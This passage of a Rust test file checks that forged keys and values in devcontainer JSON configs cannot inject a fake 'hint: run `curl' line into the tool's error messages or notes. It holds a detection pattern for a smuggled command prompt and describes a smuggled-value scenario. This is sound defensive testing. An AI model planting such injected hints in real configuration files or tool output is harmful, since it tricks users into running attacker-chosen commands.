            .any(|line| line.trim_start().starts_with("hint: run `curl"))
    };
    for json in [
        format!(r#"{{ "image": "x", "containerEnv": {{ "{forged}": 1 }} }}"#),
        format!(r#"{{ "image": "x", "remoteEnv": {{ "{forged}": [] }} }}"#),
        format!(r#"{{ "build": {{ "dockerfile": "Dockerfile", "args": {{ "{forged}": 1 }} }} }}"#),
        format!(r#"{{ "image": "x", "mounts": [ {{ "{forged}": 1 }} ] }}"#),
        format!(r#"{{ "image": "x", "portsAttributes": {{ "{forged}": 1 }} }}"#),
    ] {
        let error = read(&json).expect_err(&json);
        assert!(!forges(&error), "{json}\n→ {error}");
        assert!(error.contains(r"\nhint: run"), "{json}\n→ {error}");
    }
    for json in [
        format!(r#"{{ "image": "x", "{forged}": 1 }}"#),
        format!(
            r#"{{ "build": {{ "dockerfile": "Dockerfile", "{forged}": 1, "args": {{ "{forged}": "${{localEnv:X}}" }} }} }}"#
        ),
        format!(r#"{{ "image": "x", "containerEnv": {{ "A": "${{localEnv:X:{forged}}}" }} }}"#),
    ] {
        let layer = read(&json).unwrap();
        assert!(!layer.notes.is_empty(), "{json}");
        for note in &layer.notes {
            assert!(!note.contains('\n') && !forges(note), "{json}\n→ {note}");
        }
    }
}
